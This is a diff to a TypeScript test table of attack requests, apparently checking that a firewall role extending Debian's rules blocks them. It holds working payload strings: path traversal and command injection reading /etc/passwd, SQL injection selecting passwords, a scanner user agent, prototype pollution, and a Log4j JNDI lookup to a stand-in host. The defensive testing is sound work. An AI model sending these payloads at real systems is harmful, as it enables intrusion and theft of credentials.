@@ -79,6 +79,9 @@ const attacks: readonly (readonly [string, string, string?])[] = [
   ['traversal', '/download?file=../../../../etc/passwd'],
   ['scanner', '/', "-A 'Mozilla/5.00 (Nikto/2.5.0)'"],
   ['SQL injection in a form', '/notes', `--data-urlencode "text=1' UNION SELECT password FROM users--"`],
+  // the two that the role adds to Debian's rules
+  ['Log4j in a header', '/', `-H 'X-Api-Version: \${jndi:ldap://203.0.113.1/a}'`],
+  ['prototype of JavaScript', '/notes', `-H 'Content-Type: application/json' --data '{"__proto__":{"x":1}}'`],
   ['command in JSON', '/notes', `-H 'Content-Type: application/json' --data '{"text":"; cat /etc/passwd"}'`],
 ]
 
